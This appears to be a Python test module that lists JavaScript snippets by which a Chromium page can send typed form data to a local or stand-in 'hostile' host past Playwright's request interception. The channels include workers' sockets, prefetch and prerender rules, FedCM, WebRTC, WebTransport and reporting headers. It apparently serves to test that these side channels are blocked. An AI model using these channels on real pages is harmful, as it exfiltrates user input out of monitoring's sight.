"""What a page can do in Chromium besides asking for something: the tricks that no route sees.

Each is a promise that settles when it is known what came of it. `typed` has the fields of a form as
they are in an address, and `NAME` is the trick's own name. A new trick is one entry in a table.
"""

from collections.abc import Mapping

_LINK = "${location.origin}/link?how=${NAME}&${typed}"
_SOCKET = "new WebSocket(`" + _LINK.replace("${location.origin}", "${SOCKETS}") + "`)"
_STREAM = _SOCKET.replace("WebSocket(", "WebSocketStream(")


def _with_values(code: str) -> str:
    """Return an expression for code that knows in a worker what the page knows."""
    values = "`const typed = ${JSON.stringify(typed)}, NAME = ${JSON.stringify(NAME)}, "
    values += "HOME = ${JSON.stringify(location.origin)}, "
    values += "SOCKETS = ${JSON.stringify(location.origin.replace('http', 'ws'))};"
    return values + code.replace("`", "\\`").replace("${", "\\${") + "`"


def _blob(code: str) -> str:
    return f"URL.createObjectURL(new Blob([{code}], {{type: 'text/javascript'}}))"


def _data(code: str) -> str:
    return f"'data:text/javascript,' + encodeURIComponent({code})"


_IN_WORKER = _with_values(f"self.it = {_SOCKET}")
_NESTED = (
    f"`const inner = ${{JSON.stringify({_IN_WORKER})}};"
    " self.it = new Worker(URL.createObjectURL(new Blob([inner])))`"
)


def _rules(action: str, to: str, document: str = "document") -> str:
    return (
        f"(() => {{ const rules = {document}.createElement('script');"
        " rules.type = 'speculationrules'; rules.textContent = JSON.stringify("
        f"{{{action}: [{{source: 'list', eagerness: 'immediate', urls: [`{to}`]}}]}});"
        f" {document}.body.append(rules); return later(); }})()"
    )


_OTHER = "http://other.${location.host.split('.').slice(1).join('.')}/link?how=${NAME}&${typed}"
_IDENTITY = (
    "navigator.credentials.get({{identity: {{providers: [{{configURL: `{to}`, clientId: 'x'}}]}}}})"
)

SOCKETS: Mapping[str, str] = {
    "socket of a worker": f"later(window.it = new Worker({_blob(_IN_WORKER)}))",
    "socket of a data worker": f"later(window.it = new Worker({_data(_IN_WORKER)}))",
    "socket of a nested worker": f"later(window.it = new Worker({_blob(_NESTED)}))",
    "socket of a module": f"later(window.it = new Worker({_blob(_IN_WORKER)}, {{type: 'module'}}))",
    "socket of a shared worker": f"later(window.it = new SharedWorker({_blob(_IN_WORKER)}))",
    "socket of a pop-up's worker": "(() => { window.it = window.open('about:blank');"
    f" window.its = new window.it.Worker({_blob(_IN_WORKER)}); return later(); }})()",
    "socket of a frame's worker": "(() => { const frame = made('iframe', {});"
    " document.body.append(frame);"
    f" window.its = new frame.contentWindow.Worker({_blob(_IN_WORKER)}); return later(); }})()",
    "socket stream": f"later(window.it = (() => {{ const SOCKETS ="
    " location.origin.replace('http', 'ws');"
    f" return {_STREAM}; }})())",
    "socket stream of a worker": "later(window.it = new Worker("
    f"{_blob(_with_values(f'self.it = {_STREAM}'))}))",
}
"""Web sockets that are opened where Playwright's own do not replace them."""

AHEAD: Mapping[str, str] = {
    "prefetch": _rules("prefetch", _LINK),
    "prefetch elsewhere": _rules("prefetch", _OTHER),
    "prefetch of a pop-up": "(() => { const tab = window.it = window.open('about:blank');"
    f" return {_rules('prefetch', _LINK, 'tab.document')}; }})()",
    "prerender": _rules("prerender", _LINK),
    "prerender elsewhere": _rules("prerender", _OTHER),
}
"""Pages that Chromium loads ahead, by speculation rules that a script adds."""

IDENTITY: Mapping[str, str] = {
    "identity": _IDENTITY.format(to=_LINK),
    "identity elsewhere": _IDENTITY.format(to=_OTHER),
}
"""What Chromium asks an identity provider (FedCM)."""

_TO = f"`{_LINK}`"


def _linked(rel: str, more: str = "") -> str:
    return f"loaded('link', {{rel: '{rel}', href: {_TO}{more}}}, document.head)"


def _drawn(markup: str) -> str:
    return f"later(document.body.insertAdjacentHTML('beforeend', {markup}))"


def _in_frame(code: str) -> str:
    return f"(() => {{ {_FRAME} frame.contentWindow.{code}; frame.remove(); return later(); }})()"


_FRAME = (
    "const frame = document.querySelector('iframe') ?? made('iframe', {});"
    " if (!frame.isConnected) document.body.append(frame);"
)
_FETCH = _with_values("fetch(`" + _LINK.replace("location.origin", "HOME") + "`)")
_IMPORT = _FETCH.replace("fetch(", "importScripts(")
REQUESTS: Mapping[str, str] = {
    "link to prefetch": _linked("prefetch", ", as: 'document'"),
    "link to preload": _linked("preload", ", as: 'fetch'"),
    "link to a module": _linked("modulepreload"),
    "link to a dictionary": _linked("compression-dictionary"),
    "late beacon": f"later(fetch({_TO}, {{keepalive: true, method: 'POST', body: 'x'}}))",
    "beacon of a gone frame": _in_frame(f"fetch({_TO}, {{keepalive: true, method: 'POST'}})"),
    "fetch later": f"later(fetchLater({_TO}, {{activateAfter: 0}}))",
    "worklet": f"CSS.paintWorklet.addModule({_TO})",
    "sound worklet": f"new AudioContext().audioWorklet.addModule({_TO})",
    "fetch of a worker": f"later(window.it = new Worker({_blob(_FETCH)}))",
    "import of a worker": f"later(window.it = new Worker({_blob(_IMPORT)}))",
    "import": f"import({_TO})",
    "film": f"later(document.body.append(made('video', {{src: {_TO}}})))",
    "subtitles": _drawn(f'`<video><track default src="${{{_TO}}}"></video>`')
    + ".then(() => { document.querySelector('track').track.mode = 'showing'; return later(); })",
    "object": f"later(document.body.append(made('object', {{data: {_TO}}})))",
    "embedded": f"later(document.body.append(made('embed', {{src: {_TO}}})))",
    "drawing": _drawn(f'`<svg><use href="${{{_TO}}}#x"/></svg>`'),
    "style of a style": _drawn(f'`<style>@import "${{{_TO}}}"</style>`'),
    "font": f"new FontFace('it', `url(\"${{{_TO}}}\")`).load()",
    "tab without opener": f"later(window.open({_TO}, '_blank', 'noopener'))",
    "bundle": "later(document.body.append(made('script', {type: 'webbundle', "
    f"textContent: JSON.stringify({{source: {_TO}, resources: []}})}})))",
    "socket of a data frame": "loaded('iframe', {src: 'data:text/html,' + encodeURIComponent("
    f"'<script>' + {_with_values(_SOCKET)} + '</' + 'script>')}})",
    "script of a frame": "later(document.body.append(made('iframe', {src: "
    f"'javascript:' + {_FETCH}}})))",
}
"""Other requests, which routes see."""
SOMETIMES: Mapping[str, str] = {
    "manifest": _linked("manifest"),
}
"""What arrives without locks only now and then, so that only its refusal is tested."""

UNSEEN: Mapping[str, str] = {**SOCKETS, **AHEAD, **IDENTITY}
"""All of those."""
IN_ONE_WALK = [tuple(SOCKETS), tuple(AHEAD), *((name,) for name in IDENTITY)]
"""Those that can be played one after another; Chromium asks one identity provider at a time."""

_TURN = "turn:127.0.0.1:%d?transport=tcp"
_RTC = (
    "(async () => {{ const all = new {where}RTCPeerConnection({{iceServers: [{{credential: 'x', "
    "urls: '{to}', username: typed.slice(0, 200)}}]}}); all.createDataChannel('x'); "
    "await all.setLocalDescription(await all.createOffer()); await later(); }})()"
)
_TRANSPORT = (
    "new WebTransport('https://127.0.0.1:%d/', {serverCertificateHashes: "
    "[{algorithm: 'sha-256', value: new Uint8Array(32)}]})"
)
CALLS: Mapping[str, str] = {
    "call": _RTC.format(where="", to=_TURN),
    "call of a frame": f"(() => {{ {_FRAME} return "
    + _RTC.format(where="frame.contentWindow.", to=_TURN)
    + "; })()",
    "call by datagram": _RTC.format(where="", to="stun:127.0.0.1:%d"),
    "transport": f"later(window.it = {_TRANSPORT})",
    "transport of a frame": f"(() => {{ {_FRAME} window.it = "
    + _TRANSPORT.replace("new ", "new frame.contentWindow.")
    + "; return later(); })()",
    "transport of a worker": f"later(window.it = new Worker({_blob(f'`{_TRANSPORT}`')}))",
    "transport of a frame's worker": f"(() => {{ {_FRAME} window.it = new "
    f"frame.contentWindow.Worker({_blob(f'`{_TRANSPORT}`')}); return later(); }})()",
    "transport of a pop-up's worker": "(() => { const tab = window.open('about:blank');"
    f" window.it = new tab.Worker({_blob(f'`{_TRANSPORT}`')}); return later(); }})()",
}
"""Connections to a port of this machine (%d) that no request sets up."""

_PAY = (
    "new PaymentRequest([{supportedMethods: %s}], {total: {label: 'x', "
    "amount: {currency: 'USD', value: '1'}}}).canMakePayment()"
)
_READY = "(async () => { const ready = await navigator.serviceWorker.register('/worker.js');"
NOWHERE: Mapping[str, str] = {
    "payment": _PAY % _TO,
    "payment elsewhere": _PAY % f"`{_OTHER}`",
    "preconnect": _linked("preconnect"),
    "link to prerender": _linked("prerender"),
    "link to the next page": _linked("next"),
    "icon": _linked("icon"),
    "search": _linked("search", ", type: 'application/opensearchdescription+xml'"),
    "attribution": f"loaded('img', {{attributionSrc: {_TO}, src: 'data:,'}})",
    "private state token": f"fetch({_TO}, "
    "{privateToken: {version: 1, operation: 'token-request'}})",
    "topics": "document.browsingTopics()",
    "shared storage": f"sharedStorage.worklet.addModule({_TO})",
    "interest group": "navigator.joinAdInterestGroup({owner: location.origin, name: 'x', "
    f"updateURL: {_TO}, biddingLogicURL: {_TO}}}, 1000)",
    "fenced frame": f"later(document.body.append(made('fencedframe', {{src: {_TO}}})))",
    "portal": f"later(document.body.append(made('portal', {{src: {_TO}}})))",
    "controlled frame": f"later(document.body.append(made('controlledframe', {{src: {_TO}}})))",
    "protocol handler": f"later(navigator.registerProtocolHandler('web+it', {_TO} + '&it=%s'))",
    "storage access": "document.requestStorageAccess()",
    "background fetch": _READY + f" await ready.backgroundFetch.fetch('it', [{_TO}]); }})()",
    "push": _READY + " await ready.pushManager.subscribe({userVisibleOnly: true, "
    "applicationServerKey: new Uint8Array(65)}); })()",
    "source": f"later(window.open('view-source:' + {_TO}))",
    "passkey elsewhere": "navigator.credentials.get({publicKey: {challenge: new Uint8Array(16), "
    "rpId: 'other.hostile.localhost'}})",
    "digital credential": "navigator.credentials.get("
    "{digital: {requests: [{protocol: 'x', data: {}}]}})",
    "install": f"navigator.install({_TO})",
    "socket of an installed app": "new TCPSocket('127.0.0.1', Number(location.port)).opened",
    "presentation": f"new PresentationRequest({_TO}).start()",
    "related apps": "navigator.getInstalledRelatedApps()",
    "disconnected identity": f"IdentityCredential.disconnect({{configURL: {_TO}, clientId: 'x', "
    "accountHint: 'x'})",
    "prefetch of a frame": f"(() => {{ {_FRAME} return "
    + _rules("prefetch", _LINK, "frame.contentDocument")
    + "; })()",
    "prerender until a script": _rules("prerender_until_script", _LINK),
}
"""What does not arrive in a headless Chromium even without the locks, or is not there any more."""

NOWHERE_BY_HEADER: Mapping[str, Mapping[str, str]] = {
    "report of a style": {
        "Content-Security-Policy": "style-src 'none'; report-uri /link?how=report&token=grimm"
    },
    "report to an endpoint": {
        "Reporting-Endpoints": 'it="/link?how=endpoint&token=grimm"',
        "Content-Security-Policy": "style-src 'none'; report-to it",
    },
    "report of the network": {
        "Report-To": '{"group":"it","max_age":86400,'
        '"endpoints":[{"url":"/link?how=network&token=g"}]}',
        "NEL": '{"report_to":"it","max_age":86400,"success_fraction":1.0}',
    },
}
"""The same of headers of a page."""
